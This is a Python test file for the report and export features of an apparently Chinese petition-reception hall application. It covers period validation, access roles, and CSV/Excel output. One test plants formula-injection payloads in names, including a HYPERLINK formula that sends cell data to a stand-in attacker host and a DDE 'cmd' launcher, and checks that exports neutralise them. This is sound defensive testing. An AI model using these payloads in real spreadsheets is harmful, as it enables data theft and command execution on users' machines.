"""The report pages and their files: bad periods refused cleanly, the tables shown with their
formulas, the CSV and the .xlsx opened and checked cell by cell, the Art. 41 sheet."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from reception.models import Case
from tests.helpers import desk_by_number, login, service_by_prefix, user_by_name
from tests.test_reports import build

TUESDAY = "/reports/?period=day&day=2026-11-17&group=hour"


@pytest.mark.parametrize(
    "query",
    [
        "period=fortnight",
        "period=day&day=2026-13-01",
        "period=range&day=2026-11-17",
        "period=range&day=2026-11-17&until=2026-11-01",
        "period=range&day=2020-01-01&until=2026-01-01",
        "group=password",
        "service=999999",
        "service=abc",
        "day=%00",
    ],
)
def test_a_bad_period_is_refused_with_a_message(client, db, hall, query):
    login(client, "supervisor")
    answer = client.get(f"/reports/?{query}")
    assert answer.status_code == 422
    page = answer.get_data(as_text=True)
    assert 'data-testid="error-' in page or "无法保存的字符" in page  # a NUL: the shared guard
    assert client.get(f"/reports/export.csv?{query}").status_code == 422
    assert client.get(f"/reports/export.xlsx?{query}").status_code == 422


def test_reports_are_for_supervisors_leaders_and_admins(client, db, hall):
    login(client, "desk")
    assert client.get("/reports/").status_code == 403
    assert client.get("/reports/annual.xlsx?year=2026").status_code == 403
    for user in ("supervisor", "leader", "admin"):
        login(client, user)
        assert client.get("/reports/").status_code == 200, user


def test_the_page_shows_the_figures_with_their_formulas(client, db, hall):
    build(hall)
    login(client, "supervisor")
    page = client.get(TUESDAY).get_data(as_text=True)
    assert "09:00–10:00" in page and "23:00–00:00" in page
    assert "满意率 = (非常满意 + 满意) ÷" in page  # the tooltip of the satisfaction figure
    assert "及时受理率 = " in page
    assert 'src="/vendor/echarts.min.js"' in page


def test_csv_carries_the_table_as_shown(client, db, hall):
    build(hall)
    login(client, "supervisor")
    answer = client.get("/reports/export.csv?period=day&day=2026-11-17&group=hour&table=visits")
    assert answer.status_code == 200 and answer.mimetype == "text/csv"
    text = answer.get_data(as_text=True)
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    assert rows[0][:3] == ["时段", "办理环节", "已服务"]
    assert [r[0] for r in rows[1:]] == ["09:00–10:00", "10:00–11:00", "23:00–00:00"]
    assert rows[1][1:5] == ["2", "2", "10.0", "25.0"]  # two legs at 9: waits 600 s and 1500 s
    assert (
        client.get("/reports/export.csv?period=day&day=2026-11-17&table=nothing").status_code == 422
    )


def test_xlsx_holds_every_table_cell_by_cell(client, db, hall):
    build(hall)
    login(client, "supervisor")
    answer = client.get("/reports/export.xlsx?period=day&day=2026-11-17&group=service")
    assert answer.status_code == 200
    assert "attachment" in answer.headers["Content-Disposition"]
    book = load_workbook(io.BytesIO(answer.data))
    assert book.sheetnames[:2] == ["本期概况", "按服务统计的办理情况"]
    summary = {row[0]: row[1] for row in book["本期概况"].iter_rows(min_row=2, values_only=True)}
    assert summary["取号数"] == 3
    assert summary["办理环节"] == 4
    assert summary["等候时间中位数（分钟）"] == 10.0
    assert summary["满意率（%）"] == 66.7
    assert summary["参评率（%）"] == 75.0
    assert summary["按期完成的回访"] == 1
    visits = book["按服务统计的办理情况"]
    heading = [c.value for c in visits[1]][:4]
    assert heading == ["服务", "办理环节", "已服务", "等候时间中位数（分钟）"]
    assert [c.value for c in visits[2]] == [
        "市住建局", 3, 3, 10.0, 25.0, 10.0, 18.0, 1, 1, 1, 2, 50.0, 66.7, 1,
    ]  # fmt: skip
    assert [c.value for c in visits[3]][:4] == ["律师接访", 1, 1, 19.0]
    assert "计算方法" in book.sheetnames


def test_annual_sheet_for_the_city(client, db, hall):
    build(hall)
    login(client, "leader")
    answer = client.get("/reports/annual.xlsx?year=2026")
    assert answer.status_code == 200
    sheet = load_workbook(io.BytesIO(answer.data)).active
    rows = [r for r in sheet.iter_rows(values_only=True)]
    assert "2026" in rows[0][0]
    assert ("按类别", "件数", "人次") in rows
    index = rows.index(("按类别", "件数", "人次"))
    assert rows[index + 1] == ("住房", 6, 8) and rows[index + 2] == ("征地拆迁", 2, 2)
    # visits as a 信访 office files them: a group visit is one 批次 and N 人次
    index = rows.index(("来访情况", "批次", "人次"))
    assert rows[index + 1] == ("来访合计", 4, 6)
    assert rows[index + 2][0] == "其中集体访"
    # the four petition forms, not the hall's counters; no code or dash for a department
    index = rows.index(("按信访形式", "件数", "人次"))
    assert [r[0] for r in rows[index + 1 : index + 5]] == ["走访", "来信", "网上", "电话"]
    assert rows[index + 1][1] == 8 and rows[index + 2][1:] == (0, 0)
    flat = [c for r in rows for c in r if isinstance(c, str)]
    assert "—" not in flat and "登记台" not in flat and not any("号码" in c for c in flat)
    assert client.get("/reports/annual.xlsx?year=abc").status_code == 422


FORMULA = '=HYPERLINK("http://evil.example/"&A1,"点此")'


def _formula_cells(book) -> list[str]:
    return [
        f"{sheet.title}!{cell.coordinate}={cell.value!r}"
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f" or (isinstance(cell.value, str) and cell.value[:1] in "=+-@")
    ]


def test_no_exported_cell_is_a_formula(client, db, hall):
    """CWE-1236: names an admin or a visitor typed reach CSV and Excel cells as inert text."""
    build(hall)
    service = service_by_prefix("B")
    service.name = FORMULA
    desk_by_number(2).name = "+cmd|' /C calc'!A0"
    user_by_name("desk").display_name = "@SUM(1+1)*cmd"
    hall.name = "-2+3+cmd"
    for case in db.session.scalars(select(Case)):
        case.category = "=1+1"
    db.session.commit()
    login(client, "supervisor")
    for group in ("service", "desk", "staff"):
        query = f"period=day&day=2026-11-17&group={group}"
        text = client.get(f"/reports/export.csv?{query}&table=visits").get_data(as_text=True)
        cells = [c for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for c in row]
        if group != "desk":  # a desk is named after its number first
            assert any(c.startswith("'") for c in cells), group  # the bad name is there, inert
        assert not [c for c in cells if c[:1] in "=+-@"], group
        book = load_workbook(io.BytesIO(client.get(f"/reports/export.xlsx?{query}").data))
        assert _formula_cells(book) == [], group
    book = load_workbook(io.BytesIO(client.get("/reports/annual.xlsx?year=2026").data))
    assert _formula_cells(book) == []
    values = [c.value for row in book.active.iter_rows() for c in row if c.value]
    assert "'-2+3+cmd：2026 年信访统计" in values or any(
        str(v).startswith("'-2+3+cmd") for v in values
    )
    assert "'=1+1" in values


@pytest.mark.parametrize("period", ["day", "week", "month", "year", "range"])
@pytest.mark.parametrize("day", ["0001-01-01", "9999-12-31", "1899-12-31", "2200-01-01"])
def test_a_period_off_the_calendar_is_refused(client, db, hall, period, day):
    login(client, "supervisor")
    query = f"period={period}&day={day}&until={day}"
    for path in ("/reports/", "/reports/export.csv", "/reports/export.xlsx"):
        answer = client.get(f"{path}?{query}")
        assert answer.status_code == 422, (path, query)
        assert "1900" in answer.get_data(as_text=True)
